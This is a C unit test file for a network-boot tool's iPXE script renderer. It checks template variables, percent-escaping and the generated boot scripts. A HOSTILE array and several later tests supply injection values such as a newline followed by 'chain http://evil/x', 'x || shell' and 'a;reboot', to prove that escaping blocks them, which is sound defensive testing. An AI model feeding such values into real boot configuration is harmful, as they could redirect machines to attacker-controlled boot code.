/* iPXE script rendering (src/boot/ipxe_script.c): {{variable}} templates,
 * escaping of hostile values, the image / wait / exit / chain scripts. */
#include "../test_util.h"

#include <errno.h>

#include "boot/ipxe_script.h"

static const struct script_vars GOOD = {
    .mac = "52:54:00:ab:cd:01",
    .mac_hyphen = "52-54-00-ab-cd-01",
    .hostname = "node1",
    .ip = "198.18.0.10",
    .image = "debian-12",
    .server = "http://198.18.0.1:8080",
    .images_url = "http://198.18.0.1:8080/images",
};

/* Values an attacker (or a careless administrator) might smuggle in. */
static const char *const HOSTILE[] = {
    "a\nchain http://evil/x",
    "a\r\nshell",
    "${net0/mac}",
    "$${x}",
    "x || shell",
    "||",
    "&&",
    ";",
    "#comment",
    "a b\tc",
    "\"quoted\" 'single'",
    "{{mac}}",
    "100%",
    "%0A",
    "\\x0a",
    "\x7f\x01\x1b[31m",
    "\xc3\xa9t\xc3\xa9",
    "a;reboot",
};

static size_t count_char(const char *s, char c)
{
        size_t n = 0;
        for (; *s; s++)
                n += *s == c;
        return n;
}

static char *render(const char *tmpl, const struct script_vars *v, int *ret_rc, char *err)
{
        struct strbuf b;
        strbuf_init(&b);
        *ret_rc = ipxe_template_render(tmpl, v, &b, err);
        return strbuf_steal(&b);
}

static void expect_render(const char *tmpl, const struct script_vars *v, const char *want)
{
        char err[SCRIPT_ERR_MAX] = "";
        int rc;
        char *out = render(tmpl, v, &rc, err);
        if (rc != 0)
                print_error("render(\"%s\"): %s\n", tmpl, err);
        assert_int_equal(rc, 0);
        assert_string_equal(out, want);
        free(out);
        assert_true(ipxe_template_check(tmpl, err));
}

static void expect_template_error(const char *tmpl, const char *needle)
{
        char err[SCRIPT_ERR_MAX] = "";
        int rc;
        char *out = render(tmpl, &GOOD, &rc, err);
        free(out);
        assert_int_equal(rc, -EINVAL);
        if (!strstr(err, needle))
                print_error("template \"%s\": expected \"%s\" in \"%s\"\n", tmpl, needle, err);
        assert_non_null(strstr(err, needle));
        memset(err, 0, sizeof(err));
        assert_false(ipxe_template_check(tmpl, err));
        assert_non_null(strstr(err, needle));
}

/* Every byte a renderer may emit from a value: the escape's safe set, or a
 * "%XX" escape (uppercase hex). */
static void expect_escaped(const char *out, size_t len)
{
        for (size_t i = 0; i < len; i++) {
                unsigned char c = (unsigned char)out[i];
                bool safe = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                            (c >= '0' && c <= '9') || strchr("._~:/@+=,-", c);
                if (safe)
                        continue;
                assert_int_equal(c, '%');
                assert_true(i + 2 < len);
                assert_true(out[i + 1] && strchr("0123456789ABCDEF", out[i + 1]));
                assert_true(out[i + 2] && strchr("0123456789ABCDEF", out[i + 2]));
                i += 2;
        }
}

static void test_every_variable(void **state)
{
        expect_render("{{mac}} {{mac_hyphen}} {{hostname}} {{ip}} {{image}} {{server}} "
                      "{{images_url}}",
                      &GOOD,
                      "52:54:00:ab:cd:01 52-54-00-ab-cd-01 node1 198.18.0.10 debian-12 "
                      "http://198.18.0.1:8080 http://198.18.0.1:8080/images");
        /* Spaces inside the braces are allowed. */
        expect_render("x{{ mac }}y{{  image}}z", &GOOD, "x52:54:00:ab:cd:01ydebian-12z");
        expect_render("no variables at all\n", &GOOD, "no variables at all\n");
        expect_render("", &GOOD, "");
        /* Single braces and a lone "}}" are plain text. */
        expect_render("{mac} }} {", &GOOD, "{mac} }} {");
}

static void test_empty_and_null_values(void **state)
{
        struct script_vars v = GOOD;
        v.hostname = "";
        v.ip = NULL;
        expect_render("h=[{{hostname}}] ip=[{{ip}}]", &v, "h=[] ip=[]");
        /* check() and a NULL vars struct render nothing but validate names. */
        char err[SCRIPT_ERR_MAX];
        assert_true(ipxe_template_check("{{mac}}{{images_url}}", err));
}

static void test_unknown_and_unterminated(void **state)
{
        expect_template_error("kernel {{kernel}}", "kernel");
        expect_template_error("{{}}", "unknown");
        expect_template_error("{{ }}", "unknown");
        expect_template_error("{{MAC}}", "MAC");
        expect_template_error("{{mac", "unterminated");
        expect_template_error("ok {{mac}} then {{image", "unterminated");
        expect_template_error("{{mac}", "unterminated");
        expect_template_error("{{{{mac}}}}", "unknown");
        expect_template_error("{{mac hostname}}", "unknown");
        expect_template_error("{{mac\n}}", "unknown");
        /* A long unknown name is reported truncated, never overflowing err. */
        char big[600];
        memset(big, 'x', sizeof(big));
        memcpy(big, "{{", 2);
        memcpy(big + sizeof(big) - 3, "}}", 3);
        expect_template_error(big, "unknown");
}

static void test_hostile_values_escaped(void **state)
{
        const char *tmpl = "#!ipxe\nkernel {{images_url}}/k host={{hostname}} img={{image}} "
                           "srv={{server}} ip={{ip}} || goto failed\necho {{hostname}}\n";
        for (size_t i = 0; i < sizeof(HOSTILE) / sizeof(HOSTILE[0]); i++) {
                struct script_vars v = GOOD;
                v.hostname = v.image = v.server = v.ip = v.images_url = HOSTILE[i];
                char err[SCRIPT_ERR_MAX] = "";
                int rc;
                char *out = render(tmpl, &v, &rc, err);
                assert_int_equal(rc, 0);
                /* Same lines as the template: a value never starts a new one. */
                assert_int_equal(count_char(out, '\n'), count_char(tmpl, '\n'));
                assert_null(strchr(out, '\r'));
                /* No setting expansion, no quotes, no comment, no tab. */
                assert_null(strchr(out, '$'));
                assert_null(strchr(out, '"'));
                assert_null(strchr(out, '\''));
                assert_null(strchr(out, '\t'));
                assert_null(strchr(out, ';'));
                assert_null(strchr(out, '\\'));
                assert_null(strchr(out, '{'));
                /* The only "||", '#' and spaces are the template's own. */
                assert_int_equal(count_char(out, '|'), 2);
                assert_int_equal(count_char(out, '#'), 1);
                assert_int_equal(count_char(out, ' '), count_char(tmpl, ' '));
                for (const char *p = out; *p; p++)
                        assert_true((unsigned char)*p >= 0x20 || *p == '\n');
                free(out);
                /* A value alone renders to safe bytes and %XX escapes only. */
                out = render("{{hostname}}", &v, &rc, err);
                assert_int_equal(rc, 0);
                expect_escaped(out, strlen(out));
                free(out);
        }
}

static void test_escape_exact(void **state)
{
        struct script_vars v = GOOD;
        v.hostname = "a\nb c$d{e}f#g|h;i%j\"k'l\\m";
        expect_render("{{hostname}}", &v, "a%0Ab%20c%24d%7Be%7Df%23g%7Ch%3Bi%25j%22k%27l%5Cm");
        v.hostname = "\xc3\xa9\x7f\x01";
        expect_render("{{hostname}}", &v, "%C3%A9%7F%01");
        /* The safe set passes through untouched. */
        v.hostname = "azAZ09._~:/@+=,-";
        expect_render("{{hostname}}", &v, "azAZ09._~:/@+=,-");
        /* A value that looks like a template is not expanded again. */
        v.hostname = "{{mac}}";
        expect_render("{{hostname}}", &v, "%7B%7Bmac%7D%7D");

        struct strbuf b;
        strbuf_init(&b);
        ipxe_escape(&b, "x y");
        ipxe_escape(&b, "");
        char *s = strbuf_steal(&b);
        assert_string_equal(s, "x%20y");
        expect_escaped(s, strlen(s));
        free(s);
}

static char *image_script(const struct image *img, const struct script_vars *v, int *ret_rc)
{
        struct strbuf b;
        strbuf_init(&b);
        char err[SCRIPT_ERR_MAX] = "";
        *ret_rc = ipxe_script_image(img, v, &b, err);
        if (*ret_rc != 0)
                print_error("ipxe_script_image: %s\n", err);
        return strbuf_steal(&b);
}

static const char RETRY_TAIL[] =
    "boot || goto failed\n"
    ":failed\n"
    "echo bootherd: booting image debian-12 failed, retrying in 10 seconds\n"
    "sleep 10\n"
    "chain --autofree --replace http://198.18.0.1:8080/boot/52:54:00:ab:cd:01.ipxe || goto "
    "failed\n";

static void expect_image_script(const struct image *img, const char *head)
{
        int rc;
        char *out = image_script(img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        char want[4096];
        snprintf(want, sizeof(want), "%s%s", head, RETRY_TAIL);
        assert_string_equal(out, want);
        free(out);
}

static void test_image_no_initrd(void **state)
{
        struct image img = {.name = "debian-12", .kernel = "debian/linux", .cmdline = ""};
        expect_image_script(&img, "#!ipxe\n"
                                  "# bootherd: image debian-12 for 52:54:00:ab:cd:01\n"
                                  "kernel http://198.18.0.1:8080/images/debian/linux || goto "
                                  "failed\n");
}

/* An image with an arm64 kernel: iPXE picks by ${buildarch}. */
static void test_image_arm64(void **state)
{
        char *initrds[] = {"debian/initrd.gz"};
        char *arm[] = {"debian/arm64/initrd.gz"};
        struct image img = {.name = "debian-12",
                            .kernel = "debian/linux",
                            .initrds = initrds,
                            .n_initrds = 1,
                            .cmdline = "h={{hostname}}",
                            .kernel_arm64 = "debian/arm64/linux",
                            .initrds_arm64 = arm,
                            .n_initrds_arm64 = 1};
        expect_image_script(
            &img, "#!ipxe\n"
                  "# bootherd: image debian-12 for 52:54:00:ab:cd:01\n"
                  "iseq ${buildarch} arm64 && goto bootherd_arm64 ||\n"
                  "kernel http://198.18.0.1:8080/images/debian/linux initrd=initrd.gz h=node1 || "
                  "goto failed\n"
                  "initrd --name initrd.gz http://198.18.0.1:8080/images/debian/initrd.gz || goto "
                  "failed\n"
                  "boot || goto failed\n"
                  ":bootherd_arm64\n"
                  "kernel http://198.18.0.1:8080/images/debian/arm64/linux initrd=initrd.gz "
                  "h=node1 || goto failed\n"
                  "initrd --name initrd.gz http://198.18.0.1:8080/images/debian/arm64/initrd.gz || "
                  "goto failed\n");
}

static void test_image_one_initrd_and_cmdline(void **state)
{
        char *initrds[] = {"debian/initrd.gz"};
        struct image img = {.name = "debian-12",
                            .kernel = "debian/linux",
                            .initrds = initrds,
                            .n_initrds = 1,
                            .cmdline = "console=ttyS0 hostname={{hostname}} ip={{ip}} "
                                       "url={{images_url}}/preseed.cfg"};
        expect_image_script(
            &img, "#!ipxe\n"
                  "# bootherd: image debian-12 for 52:54:00:ab:cd:01\n"
                  "kernel http://198.18.0.1:8080/images/debian/linux initrd=initrd.gz "
                  "console=ttyS0 hostname=node1 ip=198.18.0.10 "
                  "url=http://198.18.0.1:8080/images/preseed.cfg || goto failed\n"
                  "initrd --name initrd.gz http://198.18.0.1:8080/images/debian/initrd.gz || goto "
                  "failed\n");
}

static void test_image_two_initrds_duplicate_basenames(void **state)
{
        /* Two initrds called initrd.gz: iPXE's names must differ, or the
         * second would replace the first in its virtual file system. */
        char *initrds[] = {"a/initrd.gz", "b/initrd.gz"};
        struct image img = {.name = "debian-12",
                            .kernel = "vmlinuz",
                            .initrds = initrds,
                            .n_initrds = 2,
                            .cmdline = "quiet"};
        expect_image_script(&img, "#!ipxe\n"
                                  "# bootherd: image debian-12 for 52:54:00:ab:cd:01\n"
                                  "kernel http://198.18.0.1:8080/images/vmlinuz initrd=initrd.gz "
                                  "initrd=initrd1 quiet || goto failed\n"
                                  "initrd --name initrd.gz "
                                  "http://198.18.0.1:8080/images/a/initrd.gz || goto failed\n"
                                  "initrd --name initrd1 "
                                  "http://198.18.0.1:8080/images/b/initrd.gz || goto failed\n");
}

static void test_image_two_distinct_initrds(void **state)
{
        char *initrds[] = {"ucode.img", "debian/initrd.gz"};
        struct image img = {
            .name = "debian-12", .kernel = "vmlinuz", .initrds = initrds, .n_initrds = 2};
        expect_image_script(&img, "#!ipxe\n"
                                  "# bootherd: image debian-12 for 52:54:00:ab:cd:01\n"
                                  "kernel http://198.18.0.1:8080/images/vmlinuz initrd=ucode.img "
                                  "initrd=initrd.gz || goto failed\n"
                                  "initrd --name ucode.img "
                                  "http://198.18.0.1:8080/images/ucode.img || goto failed\n"
                                  "initrd --name initrd.gz "
                                  "http://198.18.0.1:8080/images/debian/initrd.gz || goto "
                                  "failed\n");
}

static void test_image_url_artifacts(void **state)
{
        /* Absolute URLs are served by a mirror: left as they are. */
        char *initrds[] = {"https://mirror.example.org/d/initrd.gz?v=2&arch=amd64",
                           "https://mirror.example.org/d/my%20initrd.img"};
        struct image img = {.name = "debian-12",
                            .kernel = "http://mirror.example.org/debian/linux",
                            .initrds = initrds,
                            .n_initrds = 2};
        int rc;
        char *out = image_script(&img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        assert_non_null(strstr(out, "\nkernel http://mirror.example.org/debian/linux "));
        assert_non_null(
            strstr(out, " https://mirror.example.org/d/initrd.gz?v=2&arch=amd64 || goto failed\n"));
        assert_non_null(
            strstr(out, " https://mirror.example.org/d/my%20initrd.img || goto failed\n"));
        assert_null(strstr(out, "/images/http"));
        assert_null(strstr(out, "%25"));
        free(out);
}

/* Splits a script line into whitespace-separated tokens, as iPXE does. */
static size_t tokens(char *line, char **tok, size_t max)
{
        size_t n = 0;
        for (char *p = strtok(line, " \t"); p && n < max; p = strtok(NULL, " \t"))
                tok[n++] = p;
        return n;
}

static void test_image_initrd_names_are_plain_tokens(void **state)
{
        /* Paths the store accepts (validate_artifact) whose basename would be
         * an iPXE operator or comment as a bare token ("--name ||"). */
        char *initrds[] = {"x/||", "y/;", "z/&&", "w/a|b", "v/%41"};
        struct image img = {
            .name = "debian-12", .kernel = "vmlinuz", .initrds = initrds, .n_initrds = 5};
        int rc;
        char *out = image_script(&img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        char *save = NULL;
        for (char *line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
                char *tok[64];
                size_t n = tokens(line, tok, 64);
                /* Operators appear only as the script's own "|| goto failed". */
                for (size_t i = 0; i < n; i++) {
                        if (strcmp(tok[i], "||") == 0 || strcmp(tok[i], "&&") == 0 ||
                            strcmp(tok[i], ";") == 0) {
                                assert_string_equal(tok[i], "||");
                                assert_true(i + 3 == n);
                                assert_string_equal(tok[i + 1], "goto");
                        }
                        if (i > 0)
                                assert_true(tok[i][0] != '#');
                        assert_null(strchr(tok[i], '$'));
                }
                if (n >= 3 && strcmp(tok[0], "initrd") == 0) {
                        assert_string_equal(tok[1], "--name");
                        for (const char *p = tok[2]; *p; p++)
                                assert_true(strchr("|;&%", *p) == NULL);
                }
        }
        free(out);
}

static void test_image_long_initrd_names_stay_unique(void **state)
{
        /* Basenames that differ only after the 71st byte. */
        char a[200], b[200];
        memset(a, 'n', sizeof(a));
        memset(b, 'n', sizeof(b));
        memcpy(a, "x/", 2);
        memcpy(b, "y/", 2);
        a[150] = '1';
        b[150] = '2';
        a[151] = b[151] = '\0';
        char *initrds[] = {a, b};
        struct image img = {
            .name = "debian-12", .kernel = "vmlinuz", .initrds = initrds, .n_initrds = 2};
        int rc;
        char *out = image_script(&img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        char *first = strstr(out, "initrd --name ");
        assert_non_null(first);
        char *second = strstr(first + 1, "initrd --name ");
        assert_non_null(second);
        char n1[256], n2[256];
        assert_int_equal(sscanf(first, "initrd --name %255s", n1), 1);
        assert_int_equal(sscanf(second, "initrd --name %255s", n2), 1);
        assert_string_not_equal(n1, n2);
        free(out);
}

static void test_image_hostile_vars(void **state)
{
        char *initrds[] = {"debian/initrd.gz"};
        struct image img = {.name = "debian-12",
                            .kernel = "debian/linux",
                            .initrds = initrds,
                            .n_initrds = 1,
                            .cmdline = "hostname={{hostname}} mac={{mac}}"};
        int rc;
        char *good = image_script(&img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        for (size_t i = 0; i < sizeof(HOSTILE) / sizeof(HOSTILE[0]); i++) {
                struct script_vars v = GOOD;
                v.hostname = v.image = v.server = v.images_url = v.mac = HOSTILE[i];
                char *out = image_script(&img, &v, &rc);
                assert_int_equal(rc, 0);
                assert_int_equal(count_char(out, '\n'), count_char(good, '\n'));
                assert_int_equal(count_char(out, ' '), count_char(good, ' '));
                assert_int_equal(count_char(out, '#'), count_char(good, '#'));
                assert_int_equal(count_char(out, '|'), count_char(good, '|'));
                assert_null(strchr(out, '$'));
                assert_null(strchr(out, ';'));
                free(out);
        }
        free(good);
}

static void test_image_script_template(void **state)
{
        struct image img = {.name = "win",
                            .kernel = "",
                            .script = "#!ipxe\nkernel {{images_url}}/wimboot\n"
                                      "initrd {{images_url}}/win/bcd BCD\nboot\n"};
        int rc;
        char *out = image_script(&img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        assert_string_equal(out, "#!ipxe\nkernel http://198.18.0.1:8080/images/wimboot\n"
                                 "initrd http://198.18.0.1:8080/images/win/bcd BCD\nboot\n");
        free(out);

        /* Without its own "#!ipxe" line, one is added. */
        img.script = "sanboot {{server}}/iso/{{hostname}}.iso\n";
        out = image_script(&img, &GOOD, &rc);
        assert_int_equal(rc, 0);
        assert_string_equal(out, "#!ipxe\nsanboot http://198.18.0.1:8080/iso/node1.iso\n");
        free(out);

        /* A broken template is an error, not a half script. */
        img.script = "#!ipxe\nchain {{nope}}\n";
        struct strbuf b;
        strbuf_init(&b);
        char err[SCRIPT_ERR_MAX] = "";
        assert_int_equal(ipxe_script_image(&img, &GOOD, &b, err), -EINVAL);
        assert_non_null(strstr(err, "nope"));
        strbuf_free(&b);

        /* The cmdline template too. */
        struct image k = {.name = "debian-12", .kernel = "linux", .cmdline = "a={{unterminated"};
        strbuf_init(&b);
        assert_int_equal(ipxe_script_image(&k, &GOOD, &b, err), -EINVAL);
        assert_non_null(strstr(err, "unterminated"));
        strbuf_free(&b);
}

static void test_wait_script(void **state)
{
        struct strbuf b;
        strbuf_init(&b);
        ipxe_script_wait(&GOOD, 30, &b);
        char *out = strbuf_steal(&b);
        assert_string_equal(
            out, "#!ipxe\n"
                 ":retry\n"
                 "echo bootherd: machine 52:54:00:ab:cd:01 has no image assigned.\n"
                 "echo Assign one at http://198.18.0.1:8080/ (Discovered machines) or with: "
                 "bootherd machine assign 52:54:00:ab:cd:01 IMAGE\n"
                 "echo Retrying in 30 seconds.\n"
                 "sleep 30\n"
                 "chain --autofree --replace http://198.18.0.1:8080/boot/52:54:00:ab:cd:01.ipxe "
                 "|| goto retry\n");
        free(out);

        struct script_vars v = GOOD;
        v.server = "http://h\nshell";
        v.mac = "${x}";
        strbuf_init(&b);
        ipxe_script_wait(&v, 5, &b);
        out = strbuf_steal(&b);
        assert_int_equal(count_char(out, '\n'), 7);
        assert_null(strchr(out, '$'));
        free(out);
}

static void test_exit_script(void **state)
{
        struct strbuf b;
        strbuf_init(&b);
        ipxe_script_exit(&GOOD, &b);
        char *out = strbuf_steal(&b);
        assert_string_equal(out, "#!ipxe\necho bootherd: network boot is disabled for "
                                 "52:54:00:ab:cd:01\nexit\n");
        free(out);
        struct script_vars v = GOOD;
        v.mac = "x\nchain http://evil";
        strbuf_init(&b);
        ipxe_script_exit(&v, &b);
        out = strbuf_steal(&b);
        assert_int_equal(count_char(out, '\n'), 3);
        free(out);
}

static void test_chain_script(void **state)
{
        struct strbuf b;
        strbuf_init(&b);
        ipxe_script_chain("http://198.18.0.1:8080", &b);
        char *out = strbuf_steal(&b);
        assert_string_equal(out, "#!ipxe\n"
                                 "# bootherd: continue with this machine's own script\n"
                                 "chain --autofree --replace "
                                 "http://198.18.0.1:8080/boot/${net0/mac}.ipxe\n");
        free(out);
        /* The server part is escaped; only the script's own ${net0/mac} expands. */
        strbuf_init(&b);
        ipxe_script_chain("http://h/${x}\nshell", &b);
        out = strbuf_steal(&b);
        assert_int_equal(count_char(out, '\n'), 3);
        assert_int_equal(count_char(out, '$'), 1);
        assert_non_null(strstr(out, "http://h/%24%7Bx%7D%0Ashell/boot/${net0/mac}.ipxe\n"));
        free(out);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_every_variable),
            cmocka_unit_test(test_empty_and_null_values),
            cmocka_unit_test(test_unknown_and_unterminated),
            cmocka_unit_test(test_hostile_values_escaped),
            cmocka_unit_test(test_escape_exact),
            cmocka_unit_test(test_image_no_initrd),
            cmocka_unit_test(test_image_one_initrd_and_cmdline),
            cmocka_unit_test(test_image_arm64),
            cmocka_unit_test(test_image_two_initrds_duplicate_basenames),
            cmocka_unit_test(test_image_two_distinct_initrds),
            cmocka_unit_test(test_image_url_artifacts),
            cmocka_unit_test(test_image_initrd_names_are_plain_tokens),
            cmocka_unit_test(test_image_long_initrd_names_stay_unique),
            cmocka_unit_test(test_image_hostile_vars),
            cmocka_unit_test(test_image_script_template),
            cmocka_unit_test(test_wait_script),
            cmocka_unit_test(test_exit_script),
            cmocka_unit_test(test_chain_script),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
